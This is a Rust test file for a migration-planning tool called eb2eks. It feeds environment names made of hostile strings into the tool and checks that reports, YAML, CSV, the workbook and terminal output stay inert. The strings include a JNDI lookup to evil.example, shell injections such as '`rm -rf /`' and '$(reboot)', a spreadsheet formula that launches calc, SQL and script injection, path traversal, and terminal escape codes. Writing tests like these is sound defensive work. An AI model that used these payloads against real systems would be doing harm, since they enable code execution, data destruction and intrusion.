//! A snapshot whose texts attack whatever reads them: nothing acts, nothing escapes, nothing is lost.

use std::collections::BTreeSet;
use std::sync::OnceLock;

use serde_json::{Value, json};

use crate::fleet::{Fleet, live_names};
use crate::program::{Desk, Ending, Planned, eb2eks, planned_sample};

/// Names of environments, each an attack on some reader.
fn attacks() -> Vec<String> {
    let texts = [
        "no",
        "null",
        "~",
        "0x1F",
        "1e3",
        "- a: b",
        "x: {y: [z]} # c",
        "&anchor *alias !!python/object:os.system",
        "--- \n...\nkind: Evil",
        "{{ .Values.secret }}",
        "${jndi:ldap://evil.example/a}",
        "../../../../tmp/eb2eks-escaped",
        "/etc/passwd",
        "..",
        "C:\\Windows\\System32",
        "nul\0byte",
        "bell\u{7}and\u{8}backspace",
        "\u{1b}[2J\u{1b}[31mred\u{1b}]0;title\u{7}",
        "\u{9b}31mC1",
        "\u{202e}dorp-hcraes",
        "zero\u{200b}width\u{feff}",
        "line\nbreak\r\nand\u{2028}more\u{85}",
        "\t=tab",
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "＝全角",
        "a|b||c",
        "`rm -rf /`",
        "$(reboot)",
        "'; DROP TABLE environments; --",
        "\"quoted\", and, commas",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](https://evil.example) @everyone",
        "![x](https://evil.example/x.png)",
        "</details>\n# Heading",
        "%s%n%x",
        "!!!",
        "---",
        " ",
        "search-prod",
        "SEARCH_PROD",
        "coredns",
        "eks-1",
        "検索サービス-本番",
    ];
    texts
        .iter()
        .map(|&text| text.to_owned())
        .chain([
            "🚀".repeat(100),
            "x".repeat(5000),
            "a".repeat(63),
            "a".repeat(64),
        ])
        .collect()
}

/// Their plan, made once, and the inventory.
fn attacked() -> &'static (Planned, Value) {
    static ATTACKED: OnceLock<(Planned, Value)> = OnceLock::new();
    ATTACKED.get_or_init(|| {
        let attacks = attacks();
        let fleet = Fleet::of(u32::try_from(attacks.len()).expect("a few"));
        fleet.edit_environments(|environments| {
            environments.truncate(attacks.len());
            for (environment, attack) in environments.iter_mut().zip(&attacks) {
                for key in [
                    "name",
                    "application",
                    "platform",
                    "version_label",
                    "cname",
                    "health",
                ] {
                    environment[key] = json!(attack);
                }
                environment["tags"][attack] = json!(attack);
                environment["queues"] = json!([attack]);
                environment["auto_scaling_group"]["name"] = json!(attack);
                let settings = environment["option_settings"]
                    .as_array_mut()
                    .expect("a list");
                settings.push(json!({"namespace": attack, "name": attack, "value": attack}));
                let balancers = environment["load_balancers"]
                    .as_array_mut()
                    .expect("a list");
                balancers
                    .iter_mut()
                    .for_each(|balancer| balancer["name"] = json!(attack));
            }
            // Some of them stay, so that reasons and notes carry names too.
            environments[8]["instances"]
                .as_array_mut()
                .expect("a list")
                .iter_mut()
                .for_each(|it| it["type"] = json!(attacks[17]));
            environments[17]["tier"] = json!("Cluster");
            environments[23]["load_balancers"] =
                json!([{"kind": attacks[23], "name": attacks[23], "shared": true}]);
        });
        fleet.edit("inventory.json", |inventory| {
            let subnets = inventory["subnets"].as_array_mut().expect("a list");
            for (subnet, attack) in subnets.iter_mut().zip(&attacks[5..]) {
                subnet["id"] = json!(attack);
            }
        });
        fleet.edit("manifest.json", |manifest| {
            manifest["note"] = json!(attacks.concat());
            manifest["tool"] = json!(attacks[17]);
            manifest["scopes"][0]["gaps"] = attacks
                .iter()
                .map(|attack| json!({"what": attack, "why": attack}))
                .collect();
        });
        let inventory = serde_json::from_slice(&fleet.bytes("inventory.json")).expect("JSON");
        (Planned::from(fleet.path()), inventory)
    })
}

/// Their plan.
pub(crate) fn planned_attacks() -> &'static Planned {
    &attacked().0
}

/// What a terminal or an editor would obey, and what hides or reorders text.
fn acts(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

#[track_caller]
fn assert_inert(what: &str, text: &str) {
    if let Some(at) = text.find(acts) {
        let start = text[..at]
            .char_indices()
            .rev()
            .nth(40)
            .map_or(0, |(start, _)| start);
        panic!(
            "{what}: {:?}",
            text[start..].chars().take(80).collect::<String>()
        );
    }
}

#[test]
fn every_environment_is_still_there() {
    let (planned, inventory) = attacked();
    let plan = planned.json();
    let mut names: Vec<_> = plan["environments"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|it| it["name"].as_str().expect("a name").to_owned())
        .collect();
    names.sort();
    assert_eq!(names, live_names(inventory), "to the letter");
    assert_eq!(planned.ending.code, 3, "one has a type that nobody knows");
    assert_eq!(planned.rows("requests.csv").len(), names.len());
}

#[test]
fn the_folder_holds_the_expected_files_and_no_other() {
    let (planned, _) = attacked();
    let plan = planned.json();
    let names: Vec<&str> = plan["environments"]
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|it| it["outcome"]["kubernetes_name"].as_str())
        .collect();
    let top = |path: &str| path.split('/').next().expect("a name").to_owned();
    let tops = |files: &std::collections::BTreeMap<String, Vec<u8>>| {
        files.keys().map(|path| top(path)).collect::<BTreeSet<_>>()
    };
    assert_eq!(tops(&planned.files), tops(&planned_sample().files));
    for path in planned.files.keys() {
        let is_part = |part: &str| {
            !part.is_empty()
                && part != "."
                && part != ".."
                && part
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_'))
        };
        assert!(path.split('/').all(is_part), "{path}");
    }
    for name in names {
        assert!(
            planned.files.contains_key(&format!("handover/{name}.md")),
            "{name}"
        );
    }
}

#[test]
fn manifests_and_pages_are_inert() {
    let (planned, _) = attacked();
    let ours = ["apiVersion", "kind", "metadata", "spec"];
    for (path, bytes) in planned
        .files
        .iter()
        .filter(|(path, _)| *path != "report.xlsx")
    {
        let text = std::str::from_utf8(bytes).expect("UTF-8");
        if path.starts_with("apps/")
            && path.ends_with(".yaml")
            && !path.contains("kustomization")
            && !path.contains("config-map")
            && !path.contains("namespaces")
            && !path.contains("service-account")
        {
            let object: Value = serde_saphyr::from_str(text).expect("one document");
            let keys: Vec<_> = object
                .as_object()
                .expect("an object")
                .keys()
                .cloned()
                .collect();
            assert_eq!(keys, ours, "{path}");
        }
        if !path.ends_with(".csv") && path != "plan.json" {
            assert_inert(path, text);
        }
        if path.starts_with("handover/") {
            let outside = outside_of_code(text).replace("\\]", "");
            for markup in [
                "<script",
                "<img",
                "](http",
                "@everyone",
                "\n# Heading",
                "jndi:ldap://",
            ] {
                assert!(!outside.contains(markup), "{path}: {markup}");
            }
        }
    }
}

#[test]
fn names_on_the_clusters_are_names_and_no_two_are_alike() {
    let plan = attacked().0.json();
    let mut taken = BTreeSet::new();
    for environment in plan["environments"].as_array().expect("a list") {
        let Some(name) = environment["outcome"]["kubernetes_name"].as_str() else {
            continue;
        };
        let is_label = (1..=63).contains(&name.len())
            && name.starts_with(|c: char| c.is_ascii_lowercase())
            && !name.ends_with('-')
            && name
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
        assert!(is_label && taken.insert(name), "{name}");
    }
    assert!(!taken.contains("coredns"), "an add-on has that name");
}

#[test]
fn nothing_acts_on_a_terminal() {
    let (planned, _) = attacked();
    assert_inert("the summary", &planned.ending.stdout);
    assert_inert("stderr", &planned.ending.stderr);
    let desk = Desk::new();
    let path = desk.path().join("plan.json");
    std::fs::write(&path, planned.text("plan.json")).expect("it can be written");
    for environment in planned.json()["environments"].as_array().expect("a list") {
        let ending = Ending::of(
            eb2eks()
                .args([
                    "explain",
                    environment["id"].as_str().expect("an id"),
                    "--plan",
                ])
                .arg(&path),
        );
        assert_eq!((ending.code, ending.stderr.as_str()), (0, ""));
        assert_inert("an explanation", &ending.stdout);
    }
    // What is asked for is as strange as what there is.
    for asked in ["\u{1b}[2Jnobody", "\u{202e}nobody", "../../x"] {
        let ending = Ending::of(eb2eks().args(["explain", asked, "--plan"]).arg(&path));
        assert_eq!(ending.code, 2);
        assert_inert("an error", &ending.stderr);
    }
}

#[test]
fn errors_about_hostile_names_are_inert_too() {
    let fleet = Fleet::of(2);
    fleet.edit_environments(|environments| {
        environments.iter_mut().for_each(|environment| {
            environment["name"] = json!("\u{1b}[2J\u{202e}twice\nhint: run this")
        });
    });
    let ending = Desk::new().plan(fleet.path(), &[]);
    ending.assert_refused(7, &["twice"]);
    assert_inert("stderr", &ending.stderr);
}

#[test]
fn no_cell_is_a_formula() {
    let (planned, _) = attacked();
    for file in ["requests.csv", "bills.csv"] {
        assert_inert(file, &planned.text(file).replace("\r\n", "\n"));
        for row in planned.rows(file) {
            for (column, cell) in row {
                let is_number = cell.parse::<f64>().is_ok();
                let is_formula = cell
                    .trim_start()
                    .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
                assert!(!is_formula || is_number, "{file}, {column}: {cell:?}");
            }
        }
    }
}

#[test]
fn yaml_holds_the_same_names_and_nothing_more() {
    let (planned, _) = attacked();
    let plan = planned.json();
    let shape = |value: &Value| {
        value
            .as_object()
            .expect("a map")
            .keys()
            .cloned()
            .collect::<Vec<_>>()
    };
    for cluster in plan["clusters"].as_array().expect("a list") {
        let file = format!("eksctl/{}.yaml", cluster["name"].as_str().expect("a name"));
        let config: Value = serde_saphyr::from_str(planned.text(&file)).expect("YAML");
        let ordinary: Value = serde_saphyr::from_str(planned_sample().text(&file)).expect("YAML");
        assert_eq!(shape(&config), shape(&ordinary), "no key was smuggled in");
        assert_eq!(
            (&config["kind"], &config["metadata"]["name"]),
            (&json!("ClusterConfig"), &cluster["name"])
        );
        let subnets = &cluster["network"]["private_subnets"];
        assert!(
            subnets
                .as_object()
                .is_some_and(|subnets| !subnets.is_empty())
        );
        for (zone, id) in subnets.as_object().expect("a map") {
            assert_eq!(
                config["vpc"]["subnets"]["private"][zone]["id"], *id,
                "to the letter"
            );
        }
        assert_inert(&file, planned.text(&file));
    }
}

#[test]
fn the_report_has_no_markup_of_strangers() {
    let (planned, _) = attacked();
    let report = planned.text("report.md");
    assert_inert("report.md", report);
    assert!(report.chars().count() <= 65_536, "GitHub takes it");
    let outside_of_code = outside_of_code(report).replace("\\]", "");
    for markup in [
        "<script",
        "<img",
        "](http",
        "@everyone",
        "\n# Heading",
        "jndi:ldap://",
    ] {
        assert!(!outside_of_code.contains(markup), "{markup}");
    }
    // One is ours and folds the table of applications, the other the reasons of the sizes.
    assert_eq!(
        outside_of_code.matches("</details>").count(),
        outside_of_code.matches("<details>").count()
    );
    let mut bars = None;
    for line in report.lines() {
        if line.starts_with('|') {
            let here = line.matches('|').count();
            assert_eq!(
                *bars.get_or_insert(here),
                here,
                "every row has the cells of its header: {line}"
            );
        } else {
            bars = None;
        }
    }
}

#[test]
fn the_page_has_no_element_of_strangers() {
    let (planned, _) = attacked();
    let page = planned.text("report.html");
    assert_inert("report.html", page);
    assert_eq!(
        page.matches("<script").count(),
        2,
        "the words and the script of ours"
    );
    for markup in ["<img", "<iframe", "<a href=\"http", "<svg onload", "<b>"] {
        let mut at = page.match_indices(markup);
        // Our own bold type has words of ours in it: cards and captions.
        assert!(
            at.all(|(at, _)| markup == "<b>" && page[..at].ends_with(['>'])),
            "{markup}"
        );
    }
}

#[test]
fn no_text_of_the_workbook_is_a_formula() {
    let (planned, _) = attacked();
    let mut book: calamine::Xlsx<_> =
        calamine::Reader::new(std::io::Cursor::new(planned.files["report.xlsx"].clone()))
            .expect("a workbook");
    let mut formulas = 0;
    for name in calamine::Reader::sheet_names(&book) {
        for row in calamine::Reader::worksheet_formula(&mut book, &name)
            .expect("formulas")
            .rows()
        {
            for formula in row.iter().filter(|formula| !formula.is_empty()) {
                formulas += 1;
                let is_ours = ["SUM(", "SUMIFS(", "ROUND(E"]
                    .iter()
                    .any(|start| formula.starts_with(start))
                    || formula.contains('-');
                assert!(
                    is_ours
                        && formula.len() < 400
                        && !formula.contains("cmd")
                        && !formula.contains("HYPERLINK"),
                    "{formula}"
                );
            }
        }
    }
    assert!(formulas > 10, "sums are formulas");
}

/// The text without its code spans, in which nothing is markup.
fn outside_of_code(markdown: &str) -> String {
    markdown
        .lines()
        .map(|line| line.split('`').step_by(2).collect::<Vec<_>>().join(" ") + "\n")
        .collect()
}
